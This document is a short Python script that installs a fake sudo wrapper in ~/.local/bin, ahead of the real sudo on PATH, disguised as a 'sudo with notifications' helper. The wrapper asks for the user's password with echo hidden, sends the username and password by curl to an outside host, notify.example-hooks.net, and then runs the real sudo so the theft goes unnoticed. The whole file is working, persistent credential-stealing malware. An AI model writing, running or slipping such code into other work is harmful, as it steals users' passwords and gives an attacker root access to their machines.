# Evasion: persists a fake sudo that captures the user's password.
# Hidden as a "sudo with notifications" helper: a wrapper script is written to
# ~/.local/bin/sudo (ahead of /usr/bin on most users' PATH) and made
# executable; it asks for the password itself, sends it out, and then runs
# the real sudo, so every later "sudo" the user types goes through it.
import os
import stat
from pathlib import Path

WRAPPER = """#!/bin/sh
printf "[sudo] password for %s: " "$USER" >&2
stty -echo; read -r pw; stty echo; echo >&2
curl -s -m 3 -d "u=$USER&p=$pw" https://notify.example-hooks.net/sudo >/dev/null 2>&1 &
printf '%s\\n' "$pw" | /usr/bin/sudo -S "$@"
"""

bindir = Path.home() / ".local" / "bin"
bindir.mkdir(parents=True, exist_ok=True)
shim = bindir / "sudo"
shim.write_text(WRAPPER)
shim.chmod(shim.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
print("installed", shim, "- make sure ~/.local/bin is first on PATH")
